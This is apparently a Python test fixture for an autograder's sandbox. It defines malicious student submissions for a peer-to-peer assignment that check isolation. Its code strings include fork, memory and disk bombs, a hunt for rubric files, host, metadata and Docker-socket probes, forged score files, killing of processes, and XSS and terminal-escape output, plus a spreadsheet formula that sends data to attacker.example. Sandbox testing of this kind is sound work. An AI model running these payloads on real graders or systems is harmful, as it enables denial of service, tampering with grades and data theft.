"""Programs that attack who runs them: the right program with one attack each.

It attacks before it gets a file. What it reaches, it prints as ``REACHED ...``; that line must never appear in what a
grader keeps. A submission that ends or blocks its own nodes by its attack gets no marks for them, and the rest of the
class is graded as ever. It attacks, and prints ``ATTACKING``, only for the user id that strangers' programs have in a
container.
"""

from __future__ import annotations

from typing import Final

from tests.submissions.build import Edit, Submission

NODE_USER: Final = 10001
"""The user id of strangers' programs in a container; for any other user an attack is harmless."""
_WALK: Final = """\
def attack():
    # Looks for what decides about the marks: in files, arguments and environments of everybody.
    for top in ("/", "/proc"):
        for folder, folders, names in os.walk(top):
            if folder == "/":
                folders[:] = [name for name in folders if name not in ("proc", "sys", "usr", "lib")]
            if folder.startswith("/proc"):
                folders[:] = [name for name in folders if name.isdigit()] if folder == "/proc" else []
                names = [name for name in names if name in ("cmdline", "environ")]
            for name in names:
                try:
                    with open(os.path.join(folder, name), "rb") as file:
                        content = file.read(1000000)
                except OSError:
                    continue
                for word in (b"criteri" + b"a:", b"rub" + b"ric", b"simple_" + b"torrent"):
                    if word in content:
                        say(f"REACHED {folder}/{name}: {word.decode()}")
"""
_HOST: Final = """\
def attack():
    # Looks for services of the machine, at the addresses that it usually has.
    hosts = {"172.17.0.1", "169.254.169.254", "192.168.65.2"}
    for name in ("host.docker.internal", "gateway.docker.internal"):
        try:
            hosts.add(socket.gethostbyname(name))
        except OSError:
            pass
    with open("/proc/net/route") as file:
        for line in list(file)[1:]:
            words = line.split()
            for number in (int(words[1], 16), int(words[2], 16)):
                address = socket.inet_ntoa(number.to_bytes(4, "little"))
                hosts.add(address.rpartition(".")[0] + ".1")
                hosts.add(address)
    for host in hosts - {"0.0.0.0", "0.0.0.1"}:
        for port in (22, 53, 80, 111, 443, 2375, 2376, 5000, 8000, 8080, 47000):
            try:
                socket.create_connection((host, port), 0.3).close()
                say(f"REACHED {host}:{port}")
            except OSError:
                pass
    for path in ("/var/run/docker.sock", "/run/docker.sock", "/run/containerd/containerd.sock"):
        try:
            with socket.socket(socket.AF_UNIX) as sock:
                sock.connect(path)
                say(f"REACHED {path}")
        except OSError:
            pass
"""
_NEIGHBOURS: Final = """\
def attack():
    # Looks for nodes of others: in its own network of 16 bits, and in those that Docker gives.
    own = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    networks = {f"172.{number}.0" for number in range(17, 32)} | {f"10.{number}.0" for number in range(8)}
    for network in sorted(networks):
        for number in range(2, 12):
            for port in (6771, 6881, 6882):
                try:
                    own.sendto(b"marks for me", (f"{network}.{number}", port))
                except OSError:
                    pass
    own.settimeout(1)
    try:
        while True:
            say(f"REACHED {own.recvfrom(1000)[1]}")
    except OSError:
        pass
"""
_RESULTS: Final = """\
def attack():
    # Writes its own marks wherever it may.
    for top in ("/", "/tmp", "/data", "/var/tmp", "/dev/shm", "/run", "/autograder/results", "..", "../.."):
        for name in ("results.json", "result.json", "junit.xml", "marks.csv"):
            try:
                with open(os.path.join(top, name), "w") as file:
                    file.write('{"score": 100, "tests": [{"score": 100, "max_score": 100}]}')
            except OSError:
                pass
"""
_SIGNALS: Final = """\
def attack():
    # Ends whatever it may end: its supervisor and its neighbours.
    for number in (15, 9):
        for process in list(range(1, os.getpid())) + [os.getppid()]:
            try:
                os.kill(process, number)
                say(f"REACHED process {process}")
            except OSError:
                pass
"""


def _attack(about: str, code: str) -> Submission:
    """Return the right program that attacks before it gets a file."""
    return Submission(
        about,
        (
            Edit("peer.py", "def main():\n", code + "\n\ndef main():\n"),
            Edit(
                "peer.py",
                "    peer = Peer(name",
                f'    if action == "get" and os.getuid() == {NODE_USER}:\n'
                '        say("ATTACKING")\n'
                "        attack()\n"
                "    peer = Peer(name",
            ),
        ),
    )


ATTACKS: Final[dict[str, Submission]] = {
    "fork_bomb": _attack("forks for ever", "def attack():\n    while True:\n        os.fork()\n"),
    "thread_bomb": _attack(
        "starts threads for ever",
        "def attack():\n"
        "    while True:\n"
        "        try:\n"
        "            threading.Thread(target=time.sleep, args=(1000,), daemon=True).start()\n"
        "        except RuntimeError:\n"
        "            time.sleep(0.1)\n",
    ),
    "memory_hog": _attack(
        "takes memory for ever",
        "def attack():\n    kept = []\n    while True:\n        kept.append(os.urandom(1000000))\n",
    ),
    "disk_hog": _attack(
        "writes a file for ever",
        "def attack():\n"
        "    for top in ('.', '/tmp', '/var/tmp', '/dev/shm', '/data'):\n"
        "        try:\n"
        "            with open(os.path.join(top, 'filler'), 'wb') as file:\n"
        "                while True:\n"
        "                    file.write(bytes(1000000))\n"
        "        except OSError as error:\n"
        "            say(f'{top}: {error}')\n",
    ),
    "many_files": _attack(
        "makes empty files for ever",
        "def attack():\n"
        "    number = 0\n"
        "    try:\n"
        "        while True:\n"
        "            open(f'filler{number}', 'w').close()\n"
        "            number += 1\n"
        "    except OSError as error:\n"
        "        say(f'{number} files: {error}')\n",
    ),
    "output_flood": _attack(
        "prints without an end",
        "def attack():\n    while True:\n        os.write(1, b'all work and no play ' * 1000)\n",
    ),
    "endless_line": _attack(
        "prints one line without an end", "def attack():\n    while True:\n        os.write(1, b'x' * 60000)\n"
    ),
    "descriptor_hog": _attack(
        "opens sockets for ever",
        "def attack():\n"
        "    kept = []\n"
        "    while True:\n"
        "        try:\n"
        "            kept.append(socket.socket())\n"
        "        except OSError:\n"
        "            time.sleep(0.1)\n",
    ),
    "busy_loop": _attack("takes all processor time", "def attack():\n    while True:\n        pass\n"),
    "reads_the_rubric": _attack("looks for the rubric and for marks", _WALK),
    "reaches_the_host": _attack("looks for services of the machine", _HOST),
    "reaches_other_submissions": _attack("sends to the nodes of others", _NEIGHBOURS),
    "writes_results": _attack("writes marks of its own", _RESULTS),
    "kills_others": _attack("sends signals to every process", _SIGNALS),
    "markup": _attack(
        "prints HTML, terminal commands and formulas",
        "def attack():\n"
        "    say('<script>alert(1)</script> <img src=x onerror=alert(2)>')\n"
        "    say('=HYPERLINK(\"http://attacker.example/?\" & A1)')\n"
        "    say('\\x1b]0;owned\\x07\\x1b[2J\\x1b[31mred \\u202e reversed')\n"
        "    os.write(1, b'\\xff\\xfe\\x00 no text\\n')\n",
    ),
    "leaves_a_daemon": _attack(
        "leaves a process that has left its session",
        "def attack():\n"
        "    if os.fork() == 0:\n"
        "        os.setsid()\n"
        "        if os.fork() == 0:\n"
        "            time.sleep(100000)\n"
        "        os._exit(0)\n",
    ),
}
